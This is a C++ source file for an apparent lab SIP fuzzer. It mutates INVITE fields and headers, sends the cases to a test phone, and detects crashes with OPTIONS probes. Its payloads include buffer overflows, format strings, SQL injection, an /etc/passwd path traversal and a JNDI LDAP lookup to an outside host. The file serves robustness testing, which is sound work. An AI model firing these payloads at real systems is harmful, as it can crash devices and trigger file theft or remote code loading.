#include "fakes/sip/fuzz.h"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <utility>

#include "base/core/error.h"
#include "fakes/sip/udp.h"

namespace phonelab::fakes {
namespace fs = std::filesystem;

namespace {

constexpr size_t kMaxDatagram = 65000;

/// The INVITE every generated case starts from: header lines whose values hold {field}s.
struct Line {
  std::string name;     // "" for the request line and SDP lines
  std::string pattern;  // with {field} placeholders
};

const std::vector<Line>& requestLines() {
  static const std::vector<Line> lines = {
      {"",
       "{method} sip:{ruri-user}@{ruri-host}:{ruri-port};transport={ruri-transport} "
       "SIP/{version}"},
      {"Via",
       "SIP/2.0/UDP {via-host}:{via-port};branch=z9hG4bK{via-branch};rport;ttl={via-ttl};"
       "maddr={via-maddr};received={via-received}"},
      {"From", "\"{from-display}\" <sip:{from-user}@{from-host}>;tag={from-tag}"},
      {"To", "<sip:{to-user}@{to-host}>"},
      {"Call-ID", "{call-id}@{call-host}"},
      {"CSeq", "{cseq-num} {cseq-method}"},
      {"Contact", "<sip:{contact-user}@{contact-host}:{contact-port}>;expires={contact-expires}"},
      {"Max-Forwards", "{max-forwards}"},
      {"Route", "<sip:{route-host};lr>"},
      {"Record-Route", "<sip:{rr-host};lr>"},
      {"Expires", "{expires}"},
      {"User-Agent", "{user-agent}"},
      {"Subject", "{subject}"},
      {"Accept", "{accept}"},
      {"Allow", "{allow}"},
      {"Supported", "{supported}"},
      {"Date", "{date}"},
      {"Authorization",
       "Digest username=\"{auth-user}\", realm=\"{auth-realm}\", nonce=\"{auth-nonce}\", "
       "uri=\"{auth-uri}\", response=\"{auth-response}\", algorithm={auth-algorithm}"},
      {"Content-Type", "{content-type}/{content-subtype}"},
      {"Content-Length", "{content-length}"},
  };
  return lines;
}

const std::vector<std::string>& sdpLines() {
  static const std::vector<std::string> lines = {
      "v={sdp-v}",
      "o={sdp-o-user} {sdp-o-sess} {sdp-o-ver} IN IP4 {sdp-o-addr}",
      "s={sdp-s}",
      "c=IN IP4 {sdp-c-addr}",
      "t={sdp-t-start} {sdp-t-stop}",
      "m=audio {sdp-m-port} RTP/AVP {sdp-m-fmt}",
      "a=rtpmap:{sdp-a-pt} {sdp-a-codec}/{sdp-a-rate}",
  };
  return lines;
}

using Fields = std::vector<std::pair<std::string, std::string>>;

Fields defaultFields(const FuzzTarget& t) {
  const std::string me = t.local_ip, phone = t.phone_ip;
  return {
      {"method", "INVITE"},
      {"ruri-user", "100"},
      {"ruri-host", phone},
      {"ruri-port", std::to_string(t.phone_port)},
      {"ruri-transport", "udp"},
      {"version", "2.0"},
      {"via-host", me},
      {"via-port", std::to_string(t.local_port)},
      {"via-branch", "fuzz"},
      {"via-ttl", "1"},
      {"via-maddr", me},
      {"via-received", me},
      {"from-display", "Fuzz"},
      {"from-user", "fuzz"},
      {"from-host", me},
      {"from-tag", "f1"},
      {"to-user", "100"},
      {"to-host", phone},
      {"call-id", "fuzz"},
      {"call-host", me},
      {"cseq-num", "1"},
      {"cseq-method", "INVITE"},
      {"contact-user", "fuzz"},
      {"contact-host", me},
      {"contact-port", std::to_string(t.local_port)},
      {"contact-expires", "60"},
      {"max-forwards", "70"},
      {"route-host", me},
      {"rr-host", me},
      {"expires", "60"},
      {"user-agent", "phonelab-fuzz"},
      {"subject", "robustness"},
      {"accept", "application/sdp"},
      {"allow", "INVITE, ACK, CANCEL, BYE, OPTIONS"},
      {"supported", "replaces"},
      {"date", "Thu, 26 Nov 2026 12:00:00 GMT"},
      {"auth-user", "100"},
      {"auth-realm", "lab"},
      {"auth-nonce", "0123456789abcdef"},
      {"auth-uri", "sip:" + phone},
      {"auth-response", "00000000000000000000000000000000"},
      {"auth-algorithm", "MD5"},
      {"content-type", "application"},
      {"content-subtype", "sdp"},
      {"content-length", ""},  // computed unless the case sets it
      {"sdp-v", "0"},
      {"sdp-o-user", "fuzz"},
      {"sdp-o-sess", "1"},
      {"sdp-o-ver", "1"},
      {"sdp-o-addr", me},
      {"sdp-s", "-"},
      {"sdp-c-addr", me},
      {"sdp-t-start", "0"},
      {"sdp-t-stop", "0"},
      {"sdp-m-port", "40000"},
      {"sdp-m-fmt", "0"},
      {"sdp-a-pt", "0"},
      {"sdp-a-codec", "PCMU"},
      {"sdp-a-rate", "8000"},
  };
}

std::string substitute(const std::string& pattern, const std::map<std::string, std::string>& v) {
  std::string out;
  for (size_t i = 0; i < pattern.size();) {
    if (pattern[i] == '{') {
      size_t close = pattern.find('}', i);
      out += v.at(pattern.substr(i + 1, close - i - 1));
      i = close + 1;
    } else {
      out += pattern[i++];
    }
  }
  return out;
}

/// A header-level change: the header at `line` emptied, dropped, repeated or given a long name.
struct HeaderChange {
  size_t line = 0;  // 0 = none (line 0 is the request line)
  enum Kind { Empty, Drop, Repeat, LongName, NoColon } kind = Empty;
  int times = 0;
};

std::string compose(const std::map<std::string, std::string>& values, const HeaderChange& hc,
                    const std::string& call_id) {
  auto v = values;
  v["call-id"] = v["call-id"] == "fuzz" ? call_id : v["call-id"];
  std::string body;
  for (const auto& l : sdpLines()) body += substitute(l, v) + "\r\n";
  if (v["content-length"].empty()) v["content-length"] = std::to_string(body.size());
  std::string msg;
  const auto& lines = requestLines();
  for (size_t i = 0; i < lines.size(); ++i) {
    const auto& l = lines[i];
    std::string value = substitute(l.pattern, v);
    if (l.name.empty()) {
      msg += value + "\r\n";
      continue;
    }
    std::string line = l.name + ": " + value + "\r\n";
    if (hc.line == i) {
      switch (hc.kind) {
        case HeaderChange::Empty:
          line = l.name + ":\r\n";
          break;
        case HeaderChange::Drop:
          line.clear();
          break;
        case HeaderChange::Repeat: {
          std::string rep;
          for (int k = 0; k < hc.times; ++k) rep += line;
          line = rep;
          break;
        }
        case HeaderChange::LongName:
          line = std::string(static_cast<size_t>(hc.times), 'X') + l.name + ": " + value + "\r\n";
          break;
        case HeaderChange::NoColon:
          line = l.name + " " + value + "\r\n";
          break;
      }
    }
    msg += line;
  }
  return msg + "\r\n" + body;
}

/// What one field becomes in each case: (mutation name, value).
std::vector<std::pair<std::string, std::string>> mutations(const std::string& normal) {
  std::vector<std::pair<std::string, std::string>> out;
  for (size_t n : {128, 256, 512, 1024, 2048, 4097, 8192, 16384, 32768, 60000}) {
    out.emplace_back("overflow-A-" + std::to_string(n), std::string(n, 'A'));
  }
  const std::vector<std::pair<std::string, std::string>> fills = {
      {"pct", "%"},     {"xff", "\xff"},       {"fmt-s", "%s"}, {"nul", std::string(1, '\0')},
      {"space", " "},   {"quote", "\""},       {"lt", "<"},     {"semi", ";"},
      {"pct00", "%00"}, {"utf8-2", "\xc3\xa9"}};
  for (const auto& [name, fill] : fills) {
    std::string v;
    while (v.size() < 4097) v += fill;
    out.emplace_back("overflow-" + name + "-4097", v);
  }
  out.emplace_back("empty", "");
  const std::string mid = normal.substr(0, normal.size() / 2);
  const std::string rest = normal.substr(normal.size() / 2);
  const char* chars[] = {"\x00", "\x01", "\x7f", "\xff", "\x80", "\r", "\n", "\r\n",
                         "\t",   " ",    "\"",   "'",    "<",    ">",  ";",  ",",
                         ":",    "@",    "%",    "\\",   "/",    "?",  "=",  "&",
                         "[",    "]",    "{",    "}",    "|",    "^",  "`",  "~"};
  for (size_t i = 0; i < std::size(chars); ++i) {
    std::string c = i == 0 ? std::string(1, '\0') : std::string(chars[i]);
    char hex[8];
    std::snprintf(hex, sizeof hex, "%02x", static_cast<unsigned char>(c[0]));
    std::string name = "char-0x" + std::string(hex) + (c.size() > 1 ? "-0a" : "");
    out.emplace_back(name, mid + c + rest);
  }
  int format_no = 0;
  for (const char* f : {"%s%s%s%s%s%s", "%n%n%n%n%n%n", "%x%x%x%x%x%x", "%99999999s", "%.1024d",
                        "%@%@%@", "%p%p%p%p", "%08x.%08x.%08x.%08x"}) {
    out.emplace_back("format-" + std::to_string(++format_no), f);
  }
  for (const char* n :
       {"-1", "0", "4294967295", "4294967296", "18446744073709551616", "99999999999999999999999",
        "2147483648", "-2147483649", "0x10", "1e10", "1.5", "00000000000000000001"}) {
    out.emplace_back(std::string("int-") + n, n);
  }
  for (const auto& [name, s] : std::vector<std::pair<std::string, std::string>>{
           {"utf8-overlong", "\xc0\xaf"},
           {"utf8-surrogate", "\xed\xa0\x80"},
           {"utf8-bom", "\xef\xbb\xbf"},
           {"utf8-beyond", "\xf4\x90\x80\x80"},
           {"inject-sql", "' OR '1'='1"},
           {"inject-path", "../../../../../../etc/passwd"},
           {"inject-html", "<script>alert(1)</script>"},
           {"inject-jndi", "${jndi:ldap://198.18.0.66/x}"}}) {
    out.emplace_back(name, s);
  }
  return out;
}

}  // namespace

std::vector<FuzzCase> protosCases(const FuzzTarget& t) {
  const Fields fields = defaultFields(t);
  std::map<std::string, std::string> base(fields.begin(), fields.end());
  std::vector<FuzzCase> out;
  size_t serial = 0;
  auto add = [&](std::string name, const std::map<std::string, std::string>& values,
                 const HeaderChange& hc) {
    std::string bytes = compose(values, hc, "fuzz-" + std::to_string(++serial));
    if (bytes.size() > kMaxDatagram) return;
    out.push_back({std::move(name), std::move(bytes)});
  };
  for (const auto& [field, normal] : fields) {
    for (const auto& [mname, value] : mutations(normal)) {
      auto values = base;
      values[field] = value;
      add(field + "/" + mname, values, {});
    }
  }
  const auto& lines = requestLines();
  for (size_t i = 1; i < lines.size(); ++i) {
    const std::string h = "header-" + lines[i].name + "/";
    add(h + "empty", base, {i, HeaderChange::Empty, 0});
    add(h + "drop", base, {i, HeaderChange::Drop, 0});
    add(h + "no-colon", base, {i, HeaderChange::NoColon, 0});
    for (int n : {2, 50, 400})
      add(h + "repeat-" + std::to_string(n), base, {i, HeaderChange::Repeat, n});
    add(h + "long-name-4097", base, {i, HeaderChange::LongName, 4097});
  }
  return out;
}

std::vector<FuzzCase> corpusCases(const std::string& dir) {
  std::vector<fs::path> files;
  std::error_code ec;
  for (fs::directory_iterator it(dir, ec), end; !ec && it != end; it.increment(ec)) {
    if (it->path().extension() == ".sip") files.push_back(it->path());
  }
  if (ec) throw Error("sip_fuzz: cannot read the corpus folder " + dir + ": " + ec.message());
  std::sort(files.begin(), files.end());
  std::vector<FuzzCase> out;
  for (const auto& f : files) {
    std::ifstream in(f, std::ios::binary);
    std::ostringstream s;
    s << in.rdbuf();
    std::string bytes = s.str();
    if (bytes.size() > kMaxDatagram) bytes.resize(kMaxDatagram);
    out.push_back({"rfc4475/" + f.stem().string(), std::move(bytes)});
  }
  return out;
}

struct SipFuzzer::Impl {
  FuzzTarget t;
  sipudp::Socket sock;
  unsigned long probes = 0;
  explicit Impl(const FuzzTarget& target)
      : t(target), sock("", target.local_ip, target.local_port) {}

  std::string probeRequest(const std::string& call_id) const {
    const std::string me = t.local_ip + ":" + std::to_string(t.local_port);
    return "OPTIONS sip:" + t.phone_ip + ":" + std::to_string(t.phone_port) +
           " SIP/2.0\r\nVia: SIP/2.0/UDP " + me + ";branch=z9hG4bK" + call_id +
           ";rport\r\nFrom: <sip:probe@" + t.local_ip + ">;tag=probe\r\nTo: <sip:" + t.phone_ip +
           ">\r\nCall-ID: " + call_id + "\r\nCSeq: " + std::to_string(probes) +
           " OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n";
  }

  /// First line of whatever arrives until `ms` pass without a datagram ("" if none).
  std::string drain(int ms) {
    std::string first;
    while (auto d = sock.receive(ms)) {
      if (first.empty()) first = d->data.substr(0, d->data.find("\r\n"));
      ms = 0;
    }
    return first;
  }

  bool probe(double within) {
    const std::string call_id = "probe-" + std::to_string(++probes) + "@" + t.local_ip;
    const std::string req = probeRequest(call_id);
    Deadline deadline = Deadline::in(Seconds(within));
    Deadline resend = Deadline::in(Seconds(within / 2));
    bool resent = false;
    sock.send(t.phone_ip, t.phone_port, req);
    while (!deadline.expired()) {
      Deadline slice = resent ? deadline : deadline.min(resend);
      auto d = sock.receive(std::max(0, slice.remainingMs()));
      if (d) {
        if (d->data.rfind("SIP/2.0 ", 0) == 0 && d->data.find(call_id) != std::string::npos) {
          return true;
        }
        continue;  // an answer to a case, or a request of the phone's
      }
      if (!resent && resend.expired()) {
        sock.send(t.phone_ip, t.phone_port, req);
        resent = true;
      }
    }
    return false;
  }
};

SipFuzzer::SipFuzzer(const FuzzTarget& t) : impl_(std::make_unique<Impl>(t)) {}
SipFuzzer::~SipFuzzer() = default;

bool SipFuzzer::probe(double within) {
  return impl_->probe(within);
}

FuzzOutcome SipFuzzer::run(
    const std::vector<FuzzCase>& cases, double probe_within, const std::function<bool()>& cancelled,
    const std::function<void(size_t, const FuzzCase&, const std::string&)>& on_case) {
  FuzzOutcome out;
  if (!impl_->probe(probe_within)) {
    out.alive = false;
    out.error = "the phone did not answer an OPTIONS probe before the first case";
    return out;
  }
  for (size_t i = 0; i < cases.size(); ++i) {
    if (cancelled && cancelled()) break;
    impl_->sock.send(impl_->t.phone_ip, impl_->t.phone_port, cases[i].bytes);
    ++out.sent;
    // A short look for the answer to the case itself (evidence), then the probe.
    std::string answer = impl_->drain(2);
    if (!answer.empty()) ++out.answered;
    const bool ok = impl_->probe(probe_within);
    if (on_case) on_case(i, cases[i], answer);
    if (!ok) {
      out.alive = false;
      out.killer = cases[i].name;
      break;
    }
  }
  return out;
}

}  // namespace phonelab::fakes
